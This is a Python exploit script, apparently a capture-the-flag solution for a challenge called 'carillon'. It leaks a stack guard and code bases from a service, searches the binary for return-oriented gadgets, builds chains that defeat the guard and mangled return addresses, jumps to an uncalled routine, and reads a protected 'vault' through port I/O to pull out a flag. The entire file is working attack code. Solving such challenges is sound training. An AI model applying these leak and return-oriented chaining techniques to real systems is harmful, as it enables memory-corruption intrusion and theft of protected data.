"""carillon: layout and guard leak; a chain reads where the other code is; others open the vault, one for each line.

A return takes its address from below the stack pointer, so a chain runs downwards: through the guard's two words, and
then from the end of the buffer to its beginning, below which the frame is whole: a chain can end as the command would.
"""

import re

from toll import Line, Pitches, Tunes, opened

#: How far the stack falls in the end of the command n, which skips filler, and the words it eats in all.
SKIP = 16
SKIPPED = SKIP // 2 + 1


class Attack:
    """One connection."""

    def __init__(self):
        self.manual, self.image = opened()
        self.tunes, self.pitches = Tunes(self.image), Pitches(self.image)
        self.data = self.image.kinds.index("D")
        self.line, self.bases = Line(), {}
        find = self.image.find
        self.stack = self.leak(find("LDI ?c, ?st", "STW r7, ?c, 2")[2]["st"])
        found = find("LDI ?c, ?one", "LDW ?d, ?c, 2", "XOR ?d, r7", "PUSH ?d", "LDI ?c, ?two", "LDW ?d, ?c, 2")[2]
        self.guard = self.leak(found["one"]), self.leak(found["two"])
        self.commands(find("LDI ?g, ?commands", "LDW _, ?g, 0")[2]["commands"])
        self.buffer = self.stack + 6
        self.top = self.buffer + self.tunes.size + 4
        self.gadgets()

    def leak(self, offset):
        """Return the second word of a record of the data."""
        return self.pitches.record(self.line, offset)

    def plate(self):
        """Read the plate."""
        offset = self.image.plate[1]
        return b"".join(self.manual.word(self.leak(offset + 4 * i)) for i in range(8)).decode()

    def commands(self, offset):
        """The table of commands shows where four segments of code are."""
        image, manual = self.image, self.manual
        while manual.number(image.contents[self.data][offset : offset + 2]):
            segment = image.relocations[self.data, offset + 2]
            if segment not in self.bases:
                handler = manual.number(image.contents[self.data][offset + 2 : offset + 4])
                self.bases[segment] = (self.leak(offset) - handler) & 0xFFFF
            offset += 4

    def gadgets(self):
        """Find the pieces of code that the chains are made of; a piece is (segment, offset)."""
        find = self.image.find
        *self.io_in, regs = find("IN ?a, ?b", "RET")
        *self.io_out, _ = find("OUT ?b, ?a", "RET", **regs)
        *self.pop_two, found = find("POP ?c", "POP ?b", "RET", b=regs["b"])
        known = {"a": regs["a"], "c": found["c"]}
        self.mixes = {}
        for operation, name in (("xor", "XOR"), ("+", "ADD"), ("-", "SUB")):
            for more in ([], ["POP _"]):
                try:
                    *piece, _ = find(f"{name} ?a, ?c", "POP ?c", *more, "RET", **known)
                except LookupError:
                    continue
                self.mixes[operation] = piece, len(more)
        *self.skip, _ = find(f"ADDI r7, {-SKIP}", "POP _", "RET")
        segment, offset, _ = find(f"ADDI r7, {-self.tunes.size}", "POP _", "POP _", "RET")
        self.end = [segment, offset + 4]
        self.ret = [segment, offset + 8]
        self.middle = [self.pitches.segment, self.pitches.middle]

    def payload(self, chain, orderly=True):
        """Return a tune for a chain of pieces and numbers; None if it is too long.

        In an orderly one filler is skipped, so that the tune has a run, and its end is that of the command.
        """
        size = self.tunes.size // 2
        chain = [self.pop_two, None, None, *chain]  # None: the guard
        if orderly:
            chain += [self.skip, *[0] * SKIPPED]
            chain += [self.ret] * (size + 2 - len(chain)) + [self.end]
        else:
            chain += [0] * (size + 3 - len(chain))
        if len(chain) > size + 3:
            return None
        words = {}
        for i, element in enumerate(chain):
            slot = self.top - 2 * i
            if isinstance(element, list):
                words[slot] = self.manual.mangle(self.bases[element[0]] + element[1] & 0xFFFF, slot)
            elif element is not None:
                words[slot] = element
        words[self.top - 2] = self.guard[1]
        words[self.top - 4] = self.guard[0] ^ (self.top - 4)
        return self.tunes.encode(b"".join(self.manual.word(words[slot]) for slot in sorted(words)))

    def run(self, chain, orderly=True):
        """Run a chain and return what it wrote."""
        tune = self.payload(chain, orderly)
        if tune is None:
            raise ConnectionError("this connection's addresses do not go into a tune")
        return self.line.ask(f"t {tune}")

    def striker(self):
        """Return to the routine that nothing calls."""
        *piece, _ = self.image.find(f"LDI _, {self.manual.ports['STRIKER']}", "CALL _", "CEQI _, 0", "BT _")
        return re.search(r"[0-9a-f]{16}", self.run([piece]))[0]

    def read_bases(self):
        """Learn where the other code is from operands of calls, which a chain through the middle of p shows."""
        wanted = {}
        for (segment, offset), target in self.image.relocations.items():
            if segment in self.bases and target in self.image.code and target not in self.bases:
                wanted.setdefault(target, (segment, offset))
        chain = []
        for segment, offset in wanted.values():
            chain += [self.pop_two, 0, self.bases[segment] + offset - 2, self.middle]
        shown = self.run(chain).split()
        for (target, (segment, offset)), text in zip(wanted.items(), shown, strict=False):
            known = self.manual.number(self.image.contents[segment][offset : offset + 2])
            self.bases[target] = (self.pitches.plain(text) - known) & 0xFFFF

    def vault_chain(self, words):
        """Return a chain that opens the vault and shows some of its words."""
        ports = self.manual.ports
        found = re.search(r"the\s+number (\S+) (\w+), and that (\S+) (\w+)\.", self.manual.text)
        (first, spare), (second, more) = self.mixes[found[1]], self.mixes[found[3]]
        chain = [self.pop_two, int(found[2], 16), ports["VNONCE"], self.io_in]
        chain += [first, int(found[4], 16), *[0] * spare, second, 0]
        chain += [ports["VKEY"]] if more else [self.pop_two, 0, ports["VKEY"]]
        chain += [self.io_out, self.pop_two, 0, ports["VDATA"]]
        print_hex = [self.image.relocations[self.middle[0], self.middle[1] + 10], self.pitches.found["print"]]
        return chain + [self.io_in, print_hex] * words

    def vault(self, rounds=12):
        """Read the vault, some words for each line."""
        words = next(n for n in (4, 3, 2, 1) if self.payload(self.vault_chain(n)))
        text = b""
        for _ in range(rounds):
            shown = self.run(self.vault_chain(words))
            text += bytes.fromhex(shown.split("\n")[0][: 4 * words])
        return text.rstrip(b"\0").decode()


def attempts(steps):
    """Return what *steps* returns for the first connection whose addresses go into a tune."""
    for _ in range(40):
        try:
            return steps(Attack())
        except (ConnectionError, ValueError, TypeError, StopIteration) as error:
            print(f"again: {error!r}")
    raise SystemExit("no connection works")


def steps(attack):
    """Return all four texts."""
    plate, striker = attack.plate(), attack.striker()
    attack.read_bases()
    content = attack.vault()
    return plate, striker, content[:8], re.search(r"flag\{.*?\}", content)[0]


def main():
    return "".join(f"stage{i}: {text}\n" for i, text in enumerate(attempts(steps), 1))
